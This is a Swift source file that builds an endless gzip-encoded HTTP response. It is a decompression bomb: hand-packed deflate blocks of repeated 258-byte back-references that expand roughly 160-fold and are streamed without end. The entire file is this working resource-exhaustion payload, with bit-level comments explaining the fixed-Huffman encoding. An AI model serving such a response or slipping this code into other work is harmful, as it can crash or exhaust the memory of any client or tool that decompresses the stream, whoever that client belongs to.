/// An endless gzip response that unpacks to 160 times its size: the longest match of RFC 1951,
/// repeated.
public enum GzipBomb {
  /// The head, and the repeated part.
  public static var answer: (first: [UInt8], rest: [UInt8]) {
    (
      Array("HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\n\r\n".utf8)
        // The gzip header, then a stored block of one byte that the matches repeat.
        + [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3] + [0x00, 0x01, 0x00, 0xFE, 0xFF, 0x00],
      matches
    )
  }

  /// A block of fixed codes with a thousand matches of 258 bytes; 1,632 bytes in all.
  private static let matches: [UInt8] = {
    var bits: [Bool] = []
    func add(_ value: Int, _ count: Int) {
      for place in (0..<count).reversed() { bits.append(value >> place & 1 == 1) }
    }
    // Not the last block, fixed codes: 0, then 01 with its low bit first.
    bits += [false, true, false]
    // Length 258 is code 285, eight bits 11000101; distance 1 is code 0, five bits.
    for _ in 0..<1_000 {
      add(0b1100_0101, 8)
      add(0, 5)
    }
    // The end of the block, and an empty stored block for byte alignment.
    add(0, 7)
    bits += [false, false, false]
    while bits.count % 8 != 0 { bits.append(false) }
    let packed = stride(from: 0, to: bits.count, by: 8).map { start in
      (0..<8).reduce(UInt8(0)) { $0 | (bits[start + $1] ? 1 << UInt8($1) : 0) }
    }
    return packed + [0, 0, 0xFF, 0xFF]
  }()
}
